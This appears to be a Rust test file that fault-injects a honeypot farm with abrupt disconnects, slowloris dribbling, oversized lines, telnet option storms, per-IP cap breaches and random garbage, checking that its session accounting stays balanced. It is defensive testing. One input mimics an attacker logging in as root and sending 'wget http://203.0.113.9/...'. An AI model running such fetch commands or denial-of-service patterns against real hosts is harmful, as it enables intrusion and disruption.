//! Wire fault injection: hostile and broken clients must never panic the
//! farm, and every accepted connection must end in exactly one of the two
//! documented outcomes — a session record (classify) or an explicit
//! rejection (drop) — so the accounting invariant
//! `accepted == ingested + rejected` survives every fault.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use honeyfarm::wire::{FarmConfig, FarmStats, LiveFarm, Timing, MAX_LINE};

/// Poll a stats predicate until it holds or two seconds pass (the reactor
/// tick is 25ms; faults are observed asynchronously).
fn eventually(stats: &FarmStats, what: &str, pred: impl Fn(&FarmStats) -> bool) {
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        if pred(stats) {
            return;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    panic!("timed out waiting for: {what}");
}

/// Drain a socket until the server closes it.
fn read_to_eof(sock: &mut TcpStream) -> Vec<u8> {
    let _ = sock.set_read_timeout(Some(Duration::from_secs(5)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 1024];
    loop {
        match sock.read(&mut chunk) {
            Ok(0) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => break,
        }
    }
    buf
}

#[test]
fn abrupt_disconnects_mid_negotiation_and_mid_command_yield_records() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];

    // Mid-negotiation: open telnet, answer nothing, send half an IAC
    // sequence, vanish. The server must record a credential-less session.
    {
        let mut sock = TcpStream::connect(node.telnet).expect("connect");
        sock.write_all(&[255]).expect("half an IAC sequence");
        // Dropped here: FIN mid-negotiation.
    }

    // Mid-command: authenticate over SSH, then die with a partial command
    // line (no terminator) in flight.
    {
        let mut sock = TcpStream::connect(node.ssh).expect("connect");
        sock.write_all(b"USER root\nPASS hunter2\nwget http://203.0.113.9/half")
            .expect("partial command");
    }

    let stats = farm.stats();
    eventually(&stats, "both sessions ingested", |s| s.ingested() == 2);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), 2);
    // The partial command line was never terminated: discarded, not run.
    assert_eq!(out.stats.commands(), 0);
    assert_eq!(out.stats.auths_ok(), 1);
}

#[test]
fn slowloris_is_cut_by_the_read_deadline() {
    // Virtual-timing farms guard against slow clients with a wall-clock
    // read deadline; one second keeps the test fast.
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        timing: Timing::Virtual,
        wall_timeout_secs: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.ssh).expect("connect");
    // Dribble a line that never ends.
    for _ in 0..3 {
        sock.write_all(b"US").expect("dribble");
        std::thread::sleep(Duration::from_millis(200));
    }
    let reply = read_to_eof(&mut sock);
    assert!(!reply.is_empty(), "greeting was sent before the cut");
    let stats = farm.stats();
    eventually(&stats, "timeout recorded", |s| s.wall_timeouts() == 1);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1, "timed-out session still recorded");
}

#[test]
fn oversized_line_is_dropped_with_a_record() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.ssh).expect("connect");
    // Twice the line bound, no terminator: the assembler must cap, the
    // server must close, and the session must still be accounted.
    sock.write_all(&vec![b'A'; MAX_LINE * 2]).expect("flood");
    let _ = read_to_eof(&mut sock);
    let stats = farm.stats();
    eventually(&stats, "oversized line counted", |s| {
        s.oversized_lines() == 1
    });
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1);
}

#[test]
fn telnet_option_storm_is_cut_by_the_negotiation_budget() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let mut sock = TcpStream::connect(node.telnet).expect("connect");
    // 200 DO options — far past the negotiation budget.
    let mut storm = Vec::new();
    for i in 0..200u8 {
        storm.extend_from_slice(&[255, 253, i]);
    }
    let _ = sock.write_all(&storm);
    let _ = read_to_eof(&mut sock);
    let stats = farm.stats();
    eventually(&stats, "storm counted", |s| s.telnet_storms() == 1);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.ingested(), 1, "stormed session still recorded");
}

#[test]
fn per_ip_cap_breach_is_rejected_without_a_record() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 1,
        per_ip_cap: 2,
        ..FarmConfig::default()
    })
    .expect("farm");
    let node = farm.nodes()[0];
    let stats = farm.stats();
    // Two connections hold their slots; the third breaches the cap.
    let a = TcpStream::connect(node.ssh).expect("first");
    let b = TcpStream::connect(node.ssh).expect("second");
    eventually(&stats, "two accepted", |s| s.accepted() == 2);
    let mut c = TcpStream::connect(node.ssh).expect("third");
    let reply = read_to_eof(&mut c);
    assert!(reply.is_empty(), "rejected connection gets no greeting");
    eventually(&stats, "breach rejected", |s| s.rejected_ip_cap() == 1);
    drop(a);
    drop(b);
    eventually(&stats, "held sessions recorded", |s| s.ingested() == 2);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), 3);
    assert_eq!(out.stats.ingested(), 2, "no record for the rejected breach");
    assert_eq!(out.stats.rejected_ip_cap(), 1);
}

#[test]
fn garbage_bytes_never_panic_and_always_account() {
    let farm = LiveFarm::start(FarmConfig {
        nodes: 2,
        per_ip_cap: 1 << 30,
        ..FarmConfig::default()
    })
    .expect("farm");
    // A deterministic xorshift spray of binary garbage at both protocols.
    let mut x = 0x9e3779b9u32;
    let mut rnd = move || {
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        x
    };
    let mut driven = 0u64;
    for round in 0..8 {
        let node = farm.nodes()[round % 2];
        let addr = if round % 2 == 0 {
            node.ssh
        } else {
            node.telnet
        };
        let mut sock = TcpStream::connect(addr).expect("connect");
        let mut junk = Vec::with_capacity(512);
        for _ in 0..128 {
            junk.extend_from_slice(&rnd().to_le_bytes());
        }
        // Mix in newlines so some of it parses as (nonsense) lines.
        for i in (0..junk.len()).step_by(37) {
            junk[i] = b'\n';
        }
        let _ = sock.write_all(&junk);
        let _ = sock.shutdown(std::net::Shutdown::Write);
        let _ = read_to_eof(&mut sock);
        driven += 1;
    }
    // Every client read to EOF, and a record is ingested before its
    // socket closes: nothing is left to wait for.
    let stats = farm.stats();
    assert_eq!(stats.ingested() + stats.rejected_ip_cap(), driven);
    let out = farm.shutdown();
    assert!(out.stats.accounting_balanced());
    assert_eq!(out.stats.accepted(), driven);
}
